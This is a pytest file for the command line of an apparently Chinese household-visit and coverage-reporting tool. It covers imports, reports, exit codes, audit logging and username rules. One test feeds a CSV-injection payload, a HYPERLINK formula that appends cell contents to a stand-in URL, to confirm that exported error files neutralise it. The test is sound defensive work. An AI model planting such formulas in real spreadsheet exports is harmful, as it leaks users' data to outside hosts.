"""The command line (CONTRACT.md §3), run as a person runs it: a subprocess of manage.py."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path

import pytest

from i18n import Message
from tests import clirun
from tests.factories import G111, G211, PASSWORD, T1, new_db, on_postgres, write_csv

ROOT = Path(__file__).resolve().parent.parent


def run(*args: str, db: Path | None = None, env: dict | None = None, cwd: Path = ROOT):
    cmd = [sys.executable, str(ROOT / "manage.py")]
    if db is not None:
        cmd += ["--db", str(db)]
    full_env = {k: v for k, v in os.environ.items() if k != "LIANXIN_DB"}
    full_env.setdefault("LIANXIN_FAST_HASH", "1")
    full_env.update(env or {})
    return clirun.run(cmd + list(args), capture_output=True, text=True, cwd=cwd, env=full_env, timeout=300)


def one_line(stderr: str) -> str:
    lines = [ln for ln in stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


# ----------------------------------------------------------------------------- exit status


def test_import_success_exit_0_with_summary(tiny_db, tmp_path):
    f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111], ["N2", "乙", "NOPE"]])
    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=tiny_db)
    assert p.returncode == 0, p.stderr
    assert p.stdout.strip() == "hh.csv: households imported 1, updated 0, skipped 0, rejected 1, unassigned 0"
    said = Message("ingest.error.unknown_code", what=Message("ingest.what.grid"), code="NOPE")  # 中文 / English
    assert f"hh.csv row 3 column 网格编码: {said}\n" in p.stderr
    raw = (tmp_path / "err.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["row", "column", "value", "message"] and rows[1] == ["3", "网格编码", "NOPE", said]


def test_rejected_rows_csv_carries_no_formula(tiny_db, tmp_path):
    """A rejected value typed as a formula comes back in --errors as text (OWASP CSV injection)."""
    f = write_csv(
        tmp_path / "hh.csv",
        ["户编号", "户主", "网格编码"],
        [["N1", "甲", '=HYPERLINK("http://x?"&A1,"点此")'], ["N2", "乙", "@SUM(1+1)"]],
    )
    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=tiny_db)
    assert p.returncode == 1, p.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "err.csv").read_bytes().decode("utf-8-sig"))))
    assert [r[2] for r in rows[1:]] == ["'=HYPERLINK(\"http://x?\"&A1,\"点此\")", "'@SUM(1+1)"]


def test_missing_file_is_one_line_exit_1(tiny_db, tmp_path):
    p = run("import", "households", str(tmp_path / "nope.csv"), db=tiny_db)
    assert p.returncode == 1
    assert one_line(p.stderr) == Message("ingest.error.no_file", at=f"{tmp_path / 'nope.csv'}: ")


def test_missing_boundary_file_is_one_line_exit_1(tiny_db, tmp_path):
    p = run("import", "boundaries", str(tmp_path / "nope.shp"), "--level", "grid", db=tiny_db)
    assert p.returncode == 1
    assert one_line(p.stderr) == Message("ingest.error.no_file", at=f"{tmp_path / 'nope.shp'}: ")


def test_all_rows_rejected_exit_1(tiny_db, tmp_path):
    f = write_csv(
        tmp_path / "v.csv", ["户编号", "工号", "走访日期"], [["H99", "S1", "2026-01-05"], ["H01", "S9", "2026-01-05"]]
    )
    p = run("import", "visits", str(f), db=tiny_db)
    assert p.returncode == 1
    assert "v.csv row 2 column 户编号" in p.stderr and "v.csv row 3 column 工号" in p.stderr
    assert "Traceback" not in p.stderr


def test_strict_with_bad_rows_exit_1_nothing_written(tiny_db, tmp_path):
    f = write_csv(
        tmp_path / "hh.csv",
        ["户编号", "户主", "网格编码", "人口数"],
        [["N1", "甲", G111, "2"], ["N2", "乙", G111, "abc"]],
    )
    p = run("import", "households", str(f), "--strict", db=tiny_db)
    assert p.returncode == 1 and p.stderr.endswith(f"{Message('cli.error.strict', rows=1)}\n")
    from store import db

    con = db.connect(tiny_db)
    try:
        assert con.execute("SELECT count(*) FROM households WHERE code IN ('N1','N2')").fetchone()[0] == 0
    finally:
        con.close()


def test_reimport_same_file_exit_0_changes_nothing(tiny_db, tmp_path):
    f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111]])
    assert run("import", "households", str(f), db=tiny_db).returncode == 0
    p = run("import", "households", str(f), db=tiny_db)
    assert p.returncode == 0
    assert "imported 0, updated 0, skipped 1, rejected 0" in p.stdout


@pytest.mark.parametrize(
    "args",
    [
        ["frobnicate"],
        ["import", "boundaries", "x.geojson"],  # missing --level
        ["import", "households", "x.csv", "--coords", "mars"],  # bad --coords
        ["import", "boundaries", "x.geojson", "--level", "grid", "--coords", "utm"],
        ["import", "cats", "x.csv"],
        ["report", "coverage", "--level", "grid", "--from", "yesterday", "--to", "2026-01-01"],
        [],
    ],
)
def test_bad_usage_exit_2_one_line(tmp_path, args):
    p = run(*args, db=new_db(tmp_path, "u"))
    assert p.returncode == 2, (p.stdout, p.stderr)
    one_line(p.stderr)


# ----------------------------------------------------------------------------- databases


def test_every_command_creates_a_missing_database(tmp_path):
    households = write_csv(tmp_path / "h.csv", ["户编号", "户主", "经度", "纬度"], [["A", "甲", "107", "30"]])
    for i, args in enumerate(
        [
            ["init"],
            ["report", "coverage", "--level", "grid", "--from", "2026-01-01", "--to", "2026-12-31"],
            ["import", "households", str(households)],
        ]
    ):
        path = new_db(tmp_path / f"sub{i}", "new")  # a file in a folder that is not there yet
        p = run(*args, db=path)
        assert p.returncode == 0, p.stderr
        if on_postgres():
            from store import postgres

            assert postgres.database_exists(str(path))
        else:
            assert path.exists()


def test_lianxin_db_used_when_db_absent(tiny_db, tmp_path):
    p = run(
        "report",
        "coverage",
        "--level",
        "township",
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-30",
        "--format",
        "json",
        env={"LIANXIN_DB": str(tiny_db)},
    )
    assert p.returncode == 0, p.stderr
    rows = json.loads(p.stdout)
    assert {r["code"] for r in rows} == {T1, "500100002000"}
    assert sum(r["households"] for r in rows) == 8  # active, in a grid


# ----------------------------------------------------------------------------- report output

COVERAGE = ["report", "coverage", "--level", "grid", "--from", "2026-11-01", "--to", "2026-11-30"]


def test_report_csv_output_utf8_bom_snake_case(tiny_db, tmp_path):
    out = tmp_path / "out" / "cov.csv"
    p = run(*COVERAGE, "--format", "csv", "--output", str(out), db=tiny_db)
    assert p.returncode == 0, p.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["code", "name", "households", "visited", "coverage"]
    assert len(rows) == 1 + 5


def test_report_lang_zh_chinese_headers(tiny_db):
    p = run(*COVERAGE, "--format", "csv", "--lang", "zh", db=tiny_db)
    assert p.returncode == 0, p.stderr
    header = next(csv.reader(io.StringIO(p.stdout.lstrip("\ufeff"))))
    assert len(header) == 5 and all(any("\u4e00" <= ch <= "\u9fff" for ch in h) for h in header)


def test_report_json_parses(tiny_db):
    p = run(*COVERAGE, "--format", "json", db=tiny_db)
    assert p.returncode == 0, p.stderr
    rows = json.loads(p.stdout)
    assert {r["code"] for r in rows} >= {G111, G211}
    assert set(rows[0]) == {"code", "name", "households", "visited", "coverage"}


def test_as_user_filters_reports(tiny_db):
    p = run("users", "add", "clerk", "--role", "office", "--areas", T1, db=tiny_db, env={"LIANXIN_PASSWORD": PASSWORD})
    assert p.returncode == 0, p.stderr
    mine = json.loads(run("--as", "clerk", *COVERAGE, "--format", "json", db=tiny_db).stdout)
    everyone = json.loads(run(*COVERAGE, "--format", "json", db=tiny_db).stdout)
    assert {r["code"] for r in mine} == {r["code"] for r in everyone if r["code"].startswith("5001000012")}
    assert len(mine) == 3 and len(everyone) == 5


def test_as_unknown_user_exit_1(tiny_db):
    p = run("--as", "nobody", *COVERAGE, db=tiny_db)
    assert p.returncode == 1
    assert one_line(p.stderr) == Message("cli.error.no_user", user="nobody")


def test_import_as_user_is_audited_under_their_name(tiny_db, tmp_path):
    run("users", "add", "clerk", "--role", "office", "--areas", T1, db=tiny_db, env={"LIANXIN_PASSWORD": PASSWORD})
    f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"], [["N1", "甲", G111]])
    assert run("--as", "clerk", "import", "households", str(f), db=tiny_db).returncode == 0
    from store import db

    con = db.connect(tiny_db)
    try:
        row = con.execute(
            "SELECT user_name, action, counts FROM audit_log WHERE action = 'import' ORDER BY id DESC LIMIT 1"
        ).fetchone()
    finally:
        con.close()
    assert row[0] == "clerk" and row[1] == "import" and '"imported": 1' in str(row[2])


def test_boundary_import_via_cli(tiny_db, tmp_path):
    import geopandas as gpd
    import shapely

    gdf = gpd.GeoDataFrame(
        {"网格编码": [G211], "网格名称": ["新网格"]}, geometry=[shapely.box(107.2, 30.0, 107.4, 30.2)], crs="EPSG:4490"
    )
    path = tmp_path / "g.gpkg"
    gdf.to_file(path, driver="GPKG")
    p = run("import", "boundaries", str(path), "--level", "grid", db=tiny_db)
    assert p.returncode == 0, p.stderr
    assert p.stdout.strip().startswith("g.gpkg: grid imported 0, updated 1")
    assert "households moved" in p.stdout


def test_users_add_refuses_a_name_outside_the_rule(tiny_db):
    """The same rule as the admin page (auth.users._check_name): HTML or emoji in a new name, exit 1, one line."""
    for name in ("<b>x</b>", "测试😀"):
        p = run("users", "add", name, "--role", "leader", db=tiny_db, env={"LIANXIN_PASSWORD": PASSWORD})
        assert p.returncode == 1
        assert one_line(p.stderr) == Message("auth.error.bad_name")
